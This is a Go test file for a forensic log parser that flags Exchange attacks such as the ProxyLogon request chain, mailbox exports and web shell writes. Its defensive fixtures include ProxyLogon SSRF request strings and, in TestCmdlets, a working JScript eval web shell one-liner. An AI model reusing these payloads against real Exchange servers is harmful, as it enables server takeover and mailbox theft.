package exchange_test

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/barid-dfir/barid/internal/logs"
	"github.com/barid-dfir/barid/internal/logs/exchange"
	"github.com/barid-dfir/barid/internal/logs/logtest"
	"github.com/barid-dfir/barid/internal/sharedtest"
)

// means returns what the records of a log mean, one line each observation.
func means(tb testing.TB, path, log string) string {
	tb.Helper()
	format := exchange.New()
	out := logtest.Events(tb, format, path, []byte(log))
	p := format.Parser()
	var got []string
	for i := range out.Events {
		for _, o := range p.Observe(&out.Events[i], nil) {
			got = append(got, logtest.DumpObservation(o))
		}
	}
	for _, d := range out.Defects {
		got = append(got, logtest.DumpDefect(d))
	}
	return strings.Join(got, "; ")
}

func TestLadder(t *testing.T) {
	f := func(anchor, status, bytes, want string) {
		t.Helper()
		got := means(t, "x", "DateTime,Protocol,UrlStem,AnchorMailbox,ClientIpAddress,UserAgent,ServerHostName,HttpStatus,ResponseBytes,TotalRequestTime\n"+
			"2024-05-06T07:00:01Z,Ecp,/ecp/y.js,"+anchor+",203.0.113.9,AMProbe,EX1,"+status+","+bytes+",20\n")
		if got = strings.ReplaceAll(got, " ip=203.0.113.9 agent=AMProbe channel=ecp", ""); got != want {
			t.Errorf("%s %s:\n got %s\nwant %s", anchor, status, got, want)
		}
	}
	const on = " before=20ms"
	f("ServerInfo~a]@ex1.example:444/autodiscover/autodiscover.xml?#", "200", "",
		"access ok action=autodiscover/autodiscover.xml inference=PROXYLOGON_PROBE host=ex1.example exposure=metadata"+on)
	f("ServerInfo~localhost/owa/auth/x.js", "500", "", "access failed action=owa/auth/x.js inference=PROXYLOGON_MAILBOX host=EX1 exposure=content"+on)
	f("ServerInfo~EX2~1942062522/autodiscover/autodiscover.xml?a=~1942062522#", "200", "",
		"access ok action=autodiscover/autodiscover.xml inference=PROXYLOGON_PROBE host=EX2 exposure=metadata"+on)
	f("ServerInfo~a]@ex1.example:444/mapi/emsmdb/?#", "200", "", "access ok action=mapi/emsmdb/ inference=PROXYLOGON_SID host=ex1.example exposure=metadata"+on)
	f("ServerInfo~a]@ex1.example:444/mapi/emsmdb/?MailboxId=1-2@example.org&a=#", "200", "",
		"access ok action=mapi/emsmdb/ inference=PROXYLOGON_SID mailbox=1-2@example.org exposure=metadata"+on)
	f("ServerInfo~a]@ex1.example:444/mapi/nspi/?#", "200", "9000", "access ok action=mapi/nspi/ inference=ADDRESS_BOOK_READ host=ex1.example exposure=metadata bytes=9000"+on)
	f("ServerInfo~a]@ex1.example:444/ecp/proxyLogon.ecp?#", "241", "", "access ok action=ecp/proxyLogon.ecp inference=PROXYLOGON_SESSION host=ex1.example"+on)
	f("ServerInfo~a]@ex1.example:444/ecp/proxyLogon.ecp?#", "200", "", "access failed action=ecp/proxyLogon.ecp inference=PROXYLOGON_SESSION host=ex1.example"+on)
	f("ServerInfo~a]@ex1.example:444/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=s3cret&schema=MailboxService#", "200", "",
		"access ok action=ecp/DDI/DDIService.svc/GetList inference=PROXYLOGON_DIRECTORY host=ex1.example exposure=metadata target=MailboxService"+on)
	f("ServerInfo~a]@ex1.example:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=s3cret&schema=ResetOABVirtualDirectory#", "200", "77",
		"access ok action=ecp/DDI/DDIService.svc/SetObject inference=PROXYLOGON_WRITTEN host=ex1.example target=ResetOABVirtualDirectory bytes=77"+on+
			"; capability ok action=ecp/DDI/DDIService.svc/SetObject inference=SHELL_WRITTEN power=host host=ex1.example target=ResetOABVirtualDirectory"+on)
	f("ServerInfo~a]@ex1.example:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "500", "",
		"access failed action=ecp/DDI/DDIService.svc/SetObject inference=PROXYLOGON_DIRECTORY host=ex1.example exposure=metadata target=ResetOABVirtualDirectory"+on)
	f("ServerInfo~a]@ex1.example:444/EWS/Exchange.asmx?#", "200", "48211", "access ok action=EWS/Exchange.asmx inference=PROXYLOGON_MAILBOX host=ex1.example exposure=content bytes=48211"+on)
	f("ServerInfo~a]@ex1.example:444/EWS/Exchange.asmx?#", "200", "900", "access unknown action=EWS/Exchange.asmx inference=PROXYLOGON_MAILBOX host=ex1.example exposure=content bytes=900"+on)
	f("ServerInfo~a]@ex1.example:444/EWS/Exchange.asmx?#", "", "", "access unknown action=EWS/Exchange.asmx inference=PROXYLOGON_MAILBOX host=ex1.example exposure=content"+on)
	f("ServerInfo~/", "200", "", "access ok inference=PROXYLOGON_PROBE host=EX1"+on)
	f("ServerInfo~ex1.example", "200", "", "") // an anchor as the server makes it
}

// TestProxyLogonEvidence reads what is left of the logs of a real attack: the ladder up to the shell, and the parameter that runs it.
func TestProxyLogonEvidence(t *testing.T) {
	read := func(name string) []logs.Observation {
		t.Helper()
		path := sharedtest.Path(t, "evidence", "exchange", "proxylogon-2021-03-real", name)
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		format := exchange.New()
		out := logtest.Events(t, format, path, data)
		p := format.Parser()
		var obs []logs.Observation
		for i := range out.Events {
			obs = p.Observe(&out.Events[i], obs)
		}
		return obs
	}
	var ladder []string
	for _, o := range read("HttpProxy_Ecp_selected-columns.csv") {
		if string(o.IP) != "130.255.189.21" || !o.OK || string(o.Object) != "servernavn.xxx.local" {
			t.Errorf("%s", logtest.DumpObservation(o))
		}
		if !slices.Contains(ladder, o.Inference) {
			ladder = append(ladder, o.Inference)
		}
	}
	if want := []string{logs.ProxyLogonProbe, logs.ProxyLogonSID, logs.ProxyLogonSession, logs.ProxyLogonDirectory, logs.ProxyLogonWritten, logs.ShellWritten}; !slices.Equal(ladder, want) {
		t.Errorf("ladder %q, want %q", ladder, want)
	}
	written := 0
	for _, o := range read("ECPServer20210303-1_selected-fields.LOG.txt") {
		if o.Inference == logs.ShellWritten && o.Power == logs.HostPower && o.OK && string(o.Action) == "klk123456" {
			written++
		}
	}
	if written != 2 {
		t.Errorf("the shell was written %d times, want 2", written)
	}
}

func TestWebServices(t *testing.T) {
	f := func(account, action, status, size, code, impersonated, want string) {
		t.Helper()
		got := means(t, "x", "DateTime,AuthenticatedUser,UserAgent,ClientIpAddress,ServerHostName,FrontEndServer,SoapAction,HttpStatus,RequestSize,ResponseSize,ErrorCode,ImpersonatedUser,ProxyAsUser,ActAsUser\n"+
			"2024-05-06T07:00:01Z,"+account+",AMProbe,203.0.113.9,EX1,EX1,"+action+","+status+",10,"+size+","+code+","+impersonated+",,\n")
		if got = strings.ReplaceAll(got, " ip=203.0.113.9 agent=AMProbe channel=ews", ""); got != want {
			t.Errorf("%s %s:\n got %s\nwant %s", account, action, got, want)
		}
	}
	f("ana@example.org", "GetItem", "200", "30000", "", "", "access ok account=ana@example.org action=GetItem inference=MAILBOX_READ mailbox=ana@example.org exposure=content bytes=30000")
	f("ana@example.org", "GetItem", "200", "", "", "", "access ok account=ana@example.org action=GetItem inference=MAILBOX_READ mailbox=ana@example.org exposure=content")
	f("ana@example.org", "GetItem", "200", "900", "", "", "access unknown account=ana@example.org action=GetItem inference=MAILBOX_READ mailbox=ana@example.org exposure=content bytes=900")
	f("ana@example.org", "GetItem", "200", "900", "ErrorItemNotFound", "", "access failed account=ana@example.org action=GetItem inference=MAILBOX_USED mailbox=ana@example.org bytes=900")
	f("ana@example.org", "GetItem", "200", "90000", "ErrorItemNotFound", "", "access unknown account=ana@example.org action=GetItem inference=MAILBOX_READ mailbox=ana@example.org exposure=content bytes=90000")
	f("ana@example.org", "GetItem", "500", "90000", "", "", "access failed account=ana@example.org action=GetItem inference=MAILBOX_USED mailbox=ana@example.org bytes=90000")
	f("ana@example.org", "FindItem", "200", "900", "", "", "access ok account=ana@example.org action=FindItem inference=MAILBOX_LISTED mailbox=ana@example.org exposure=metadata bytes=900")
	f("svc@example.org", "ExportItems", "200", "90000", "", "bob@example.org", "access ok account=svc@example.org action=ExportItems inference=MAILBOX_READ mailbox=bob@example.org exposure=content bytes=90000")
	f(`X\EX1$`, "FindItem", "200", "48102", "", "", `access ok account="X\\EX1$" action=FindItem inference=MAILBOX_LISTED exposure=metadata bytes=48102`)
	f(`NT AUTHORITY\SYSTEM`, "GetItem", "200", "48102", "", "", `access ok account="NT AUTHORITY\\SYSTEM" action=GetItem inference=MAILBOX_READ exposure=content bytes=48102`)
	f("HealthMailbox1@example.org", "GetFolder", "200", "", "", "HealthMailbox1@example.org", "heartbeat ok account=HealthMailbox1@example.org action=GetFolder")
}

func TestOutlook(t *testing.T) {
	const head = "DateTime,MapiRequestId,RequestType,AuthenticatedUserEmail,MailboxId,ActAsUserEmail,ClientIP,SessionCookie,ClientSoftware,ClientMode\n"
	f := func(kind, as, want string) {
		t.Helper()
		got := means(t, "x", head+"2024-05-06T07:00:01Z,1,"+kind+",ana@example.org,1-2@example.org,"+as+",203.0.113.9,C1,OUTLOOK.EXE,Cached\n")
		if got = strings.ReplaceAll(got, " account=ana@example.org ip=203.0.113.9 agent=OUTLOOK.EXE channel=mapi session=C1", ""); got != want {
			t.Errorf("%s:\n got %s\nwant %s", kind, got, want)
		}
	}
	f("Connect", "", "access ok action=Connect inference=MAILBOX_USED mailbox=ana@example.org")
	f("Execute", "", "access ok action=Execute inference=MAILBOX_USED mailbox=ana@example.org; access unknown action=Execute inference=MAILBOX_READ mailbox=ana@example.org exposure=content; "+
		"access unknown action=Execute inference=MAILBOX_READ mailbox=1-2@example.org exposure=content")
	f("Execute", "bob@example.org", "access ok action=Execute inference=MAILBOX_USED mailbox=bob@example.org; access unknown action=Execute inference=MAILBOX_READ mailbox=bob@example.org exposure=content")
}

func TestProxied(t *testing.T) {
	f := func(protocol, stem, action, anchor, query, more, want string) {
		t.Helper()
		got := means(t, "x", "DateTime,ClientRequestId,Protocol,UrlStem,ProtocolAction,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method,ResponseBytes,TotalRequestTime,UrlQuery,GenericInfo\n"+
			"2024-05-06T07:00:01Z,R:{1}:2;RT:Execute;CI:{c-1}:9;CID:{c-2},"+protocol+","+stem+","+action+",X\\ana,"+anchor+",Client,203.0.113.9,EX1,200,POST,5000,15,"+query+","+more+"\n")
		if got = strings.ReplaceAll(got, ` account="X\\ana" ip=203.0.113.9 agent=Client`, ""); got != want {
			t.Errorf("%s %s:\n got %s\nwant %s", protocol, stem, got, want)
		}
	}
	f("Mapi", "/mapi/emsmdb/", "", "MailboxGuid~1-2", "?MailboxId=1-2@example.org", "",
		`access ok channel=mapi session=c-1 action=Execute inference=MAILBOX_USED mailbox="X\\ana" before=15ms; `+
			`access unknown channel=mapi session=c-1 action=Execute inference=MAILBOX_READ mailbox="X\\ana" exposure=content bytes=5000 before=15ms; `+
			`access unknown channel=mapi session=c-1 action=Execute inference=MAILBOX_READ mailbox=1-2@example.org exposure=content bytes=5000 before=15ms`)
	f("Ews", "/EWS/Exchange.asmx", "", "SMTP~ana@example.org", "", "", `access ok channel=ews inference=MAILBOX_USED mailbox="X\\ana" bytes=5000 before=15ms`)
	f("Ews", "/EWS/Exchange.asmx", "", "SMTP~bob@example.org", "", "", `access ok channel=ews inference=MAILBOX_USED mailbox="X\\ana" bytes=5000 before=15ms; `+
		`access unknown channel=ews inference=CROSS_MAILBOX mailbox=bob@example.org exposure=content before=15ms`)
	f("Eas", "/Microsoft-Server-ActiveSync/default.eas", "", "Sid~S-1-1", "?Cmd=ItemOperations&User=ana&DeviceId=D1&DeviceType=P", "",
		`access ok channel=eas device=D1 action=ItemOperations inference=MAILBOX_READ mailbox="X\\ana" exposure=content bytes=5000 before=15ms`)
	f("PowerShell", "/powershell", "New-MailboxExportRequest:Command", "", "?PSVersion=5", "SessionId=S1;ShellId=2",
		`access ok channel=powershell session=S1 action=New-MailboxExportRequest:Command bytes=5000 before=15ms; `+
			`access unknown channel=powershell session=S1 action=New-MailboxExportRequest inference=EXPORT_REQUESTED exposure=content before=15ms`)
	f("PowerShell", "/powershell", "Get-Mailbox:Command", "", "?PSVersion=5", "SessionId=S1;ShellId=2", `access ok channel=powershell session=S1 action=Get-Mailbox:Command bytes=5000 before=15ms`)
}

func TestCommandsOfImapAndPop(t *testing.T) {
	f := func(server, command, arguments, want string) {
		t.Helper()
		got := means(t, "x", "dateTime,sessionId,seqNumber,sIp,cIp,user,duration,rqsize,rpsize,command,parameters,context,puid\n"+
			"2024-05-06T07:00:01Z,000000000000000E,2,192.0.2.1:"+server+",203.0.113.9:3,ana,0,3,31,"+command+",\""+arguments+"\",R=OK,\n")
		if got = strings.ReplaceAll(got, " account=ana", ""); got != want {
			t.Errorf("%s %s:\n got %s\nwant %s", command, arguments, got, want)
		}
	}
	const (
		back    = " session=000000000000000E action="
		content = " inference=MAILBOX_READ mailbox=ana exposure=content bytes=31"
		listed  = " inference=MAILBOX_LISTED mailbox=ana exposure=metadata bytes=31"
	)
	f("143", "fetch", "1:* (BODY[])", "access ok ip=203.0.113.9 channel=imap"+back+"fetch"+content)
	f("1993", "fetch", "1:* (BODY[])", "access ok channel=imap"+back+"fetch"+content)
	f("1993", "fetch", "1:* (UID BODY.PEEK[HEADER.FIELDS (DATE FROM)] FLAGS)", "access ok channel=imap"+back+"fetch"+listed)
	f("1993", "fetch", "1:* (UID BODY.PEEK[HEADER.FIELDS (DATE FROM)] BODY.PEEK[1])", "access ok channel=imap"+back+"fetch"+content)
	f("1993", "fetch", "1:* FLAGS", "access ok channel=imap"+back+"fetch"+listed)
	f("1993", "fetch", "1:* RFC822", "access ok channel=imap"+back+"fetch"+content)
	f("1993", "fetch", "", "access ok channel=imap"+back+"fetch"+content)
	f("1993", "uid fetch", "", "access ok channel=imap"+back+"uid"+content)
	f("1993", "uid fetch 5 (ENVELOPE)", "", "access ok channel=imap"+back+"uid"+listed)
	f("1993", "uid", "SEARCH ALL", "access ok channel=imap"+back+"SEARCH"+listed)
	f("1993", "select", "INBOX", "access ok channel=imap"+back+"select"+listed)
	f("1993", "copy", "1 x", "access ok channel=imap"+back+"copy inference=MESSAGE_TOUCHED mailbox=ana exposure=metadata bytes=31")
	f("1993", "noop", "", "")
	f("1995", "retr", "3", "access ok channel=pop3"+back+"retr"+content)
	f("1995", "top", "3 0", "access ok channel=pop3"+back+"top inference=MAILBOX_READ mailbox=ana exposure=partial bytes=31")
}

func TestMailThatLeaves(t *testing.T) {
	f := func(source, id, from, to, direction, reference, want string) {
		t.Helper()
		got := means(t, "x", "#Fields: date-time,client-ip,server-hostname,source,event-id,internal-message-id,message-id,recipient-address,total-bytes,recipient-count,reference,sender-address,directionality,original-client-ip,related-recipient-address\n"+
			"2024-05-06T07:00:01Z,,EX1,"+source+","+id+",1,<m1@example.org>,"+to+",700,1,"+reference+","+from+","+direction+",203.0.113.9,ana@example.org\n")
		if got != want {
			t.Errorf("%s %s:\n got %s\nwant %s", source, id, got, want)
		}
	}
	f("STOREDRIVER", "RECEIVE", "ana@example.org", "x@example.net", "Originating", "", "send ok account=ana@example.org ip=203.0.113.9 channel=mapi action=RECEIVE inference=MESSAGE_SENT message=<m1@example.org> in=ana@example.org exposure=content bytes=700 count=1")
	f("SMTP", "RECEIVE", "x@example.net", "ana@example.org", "Incoming", "", "")
	f("STOREDRIVER", "DELIVER", "x@example.net", "ana@example.org", "Incoming", "", "")
	f("MAILBOXRULE", "RECEIVE", "ana@example.org", "x@example.net", "Originating", "<m0@example.net>",
		"access ok channel=smtp action=RECEIVE inference=FORWARDED message=<m0@example.net> in=ana@example.org exposure=content target=x@example.net bytes=700")
	f("ROUTING", "REDIRECT", "y@example.com", "x@example.net", "Incoming", "",
		"access ok channel=smtp action=REDIRECT inference=FORWARDED message=<m1@example.org> in=ana@example.org exposure=content target=x@example.net bytes=700")
	f("STOREDRIVER", "RECEIVE", "HealthMailbox1@example.org", "x@example.org", "Originating", "", "")
}

func TestWhoSubmits(t *testing.T) {
	got := means(t, "x", software+"#Log-type: SMTP Receive Protocol Log\n#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context\n"+
		"2024-05-06T07:00:01Z,EX1\\C,08DA4F7C11473A60,9,192.0.2.1:587,203.0.113.9:53722,>,235 <authentication response>,\n"+
		"2024-05-06T07:00:01Z,EX1\\C,08DA4F7C11473A60,10,192.0.2.1:587,203.0.113.9:53722,*,X\\ana,authenticated\n")
	if want := "login ok ip=203.0.113.9 channel=smtp session=08DA4F7C11473A60 inference=SIGNED_IN; " +
		`login ok account="X\\ana" ip=203.0.113.9 channel=smtp session=08DA4F7C11473A60 inference=SIGNED_IN count=0`; got != want {
		t.Errorf("got %s", got)
	}
}

func TestCmdlets(t *testing.T) {
	const rps = "DateTime,ServerHostName,AuthenticatedUser,ClientApplication,Cmdlet,Parameters,ExecutionResult,GenericInfo\n2024-05-06T07:00:01Z,EX1,eve,EMC,"
	f := func(log, want string) {
		t.Helper()
		if got := means(t, "x", log+"\n"); got != want {
			t.Errorf("%s:\n got %s\nwant %s", log, got, want)
		}
	}
	f(rps+`New-MailboxExportRequest,"-Mailbox ""ana"" -FilePath ""\\h\c$\x.pst""",Success,`,
		`access ok account=eve channel=powershell app=EMC action=New-MailboxExportRequest inference=EXPORT_REQUESTED mailbox=ana exposure=content target="\\\\h\\c$\\x.pst"`)
	f(rps+`New-MailboxExportRequest,"-Mailbox ""ana"" -IncludeFolders ""#Drafts#"" -FilePath ""\\127.0.0.1\c$\x.aspx""",Success,`,
		`access ok account=eve channel=powershell app=EMC action=New-MailboxExportRequest inference=EXPORT_FILTERED mailbox=ana target="\\\\127.0.0.1\\c$\\x.aspx"; `+
			`capability ok account=eve channel=powershell app=EMC action=New-MailboxExportRequest inference=SHELL_WRITTEN power=host host=EX1 target="\\\\127.0.0.1\\c$\\x.aspx"`)
	f(rps+`Set-Mailbox,"-Identity ""ana"" -ForwardingSmtpAddress ""x@example.net""",Error,`,
		`capability failed account=eve channel=powershell app=EMC action=Set-Mailbox inference=RULE_MADE power=rule in=ana target=x@example.net`)
	f(strings.Replace(rps, "eve", "HealthMailbox1", 1)+`Set-Mailbox,"-Identity ""ana"" -ForwardingSmtpAddress ""x@example.net""",Success,`, "")
	f(rps+"Get-Mailbox,,Success,", "")
	f("#Log-type: audit\n#Fields: Timestamp,Server,TenantId,RecordType,Data,UserKey,RecordId,Operation,Workload,ResultStatus,Version,Scope\n"+
		`2024-05-06T07:00:01Z,EX1,0,ExchangeAdmin,"{""Operation"":""Add-MailboxPermission"",""Parameters"":[{""Name"":""Identity"",""Value"":""X\/ana""},{""Name"":""User"",""Value"":""eve""}]}",eve,1,Add-MailboxPermission,Exchange,True,1,Online`,
		`capability ok account=eve channel=powershell action=Add-MailboxPermission inference=DELEGATION_GIVEN power=delegation in=X/ana target=eve`)
	f("#Log-type: ECP Server Log\n#Fields: TimeStamp,ServerName,EventId,EventData\n"+
		`2024-05-06T07:00:01Z,EX1,ECP.Request,"S:TIME=13;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""k1""],""unsafe"");}</script>''.Identity=''1''';S:EX="`,
		`capability ok channel=ecp action=k1 inference=SHELL_WRITTEN power=host host=EX1`)
}

func TestCommandThatIsCutOffNeedNotHaveSucceeded(t *testing.T) {
	got := means(t, "x", "dateTime,sessionId,seqNumber,sIp,cIp,user,duration,rqsize,rpsize,command,parameters,context,puid\n"+
		`2024-05-06T07:00:01Z,000000000000000E,2,192.0.2.1:1993,192.0.2.1:3,ana,0,3,31,fetch,"1:* (UID FLAGS E`)
	if want := "access unknown account=ana channel=imap session=000000000000000E action=fetch inference=MAILBOX_READ mailbox=ana exposure=content bytes=31; defect "; !strings.HasPrefix(got, want) {
		t.Errorf("%s, want %s", got, want)
	}
}

// FuzzObserve looks for records of any log that break what observations promise.
func FuzzObserve(f *testing.F) {
	for _, log := range []string{
		sample,
		"DateTime,Protocol,UrlStem,AnchorMailbox,HttpStatus,UrlHost\n2024-05-06T07:00:01Z,Ecp,/ecp/y.js,ServerInfo~a:/ecp/DDI/DDIService.svc/SetObject?schema=Reset~#,200,\n",
		"#Log-type: EWS Logs\n#Fields: DateTime,AuthenticatedUser,SoapAction,HttpStatus,ResponseSize,ErrorCode,ImpersonatedUser\n2024-05-06T07:00:01Z,a,GetItem,200,9,x,\n",
		"2024-05-06T07:00:01Z,000000000000000E,2,192.0.2.1:143,203.0.113.9:35070,ana,168,31,31,uid fetch,1 (BODY[,R=OK,\n",
	} {
		f.Add([]byte(log))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		format := exchange.New()
		out := logtest.Events(t, format, "x", data)
		p := format.Parser()
		for i := range out.Events {
			for _, o := range p.Observe(&out.Events[i], nil) {
				if o.OK && o.Unknown || o.Before < 0 {
					t.Errorf("%s", logtest.DumpObservation(o))
				}
				if o.Exposure > logs.NoExposure && o.ObjectKind == "" && o.Kind == logs.Access {
					t.Errorf("an exposure of nothing: %s", logtest.DumpObservation(o))
				}
			}
		}
	})
}
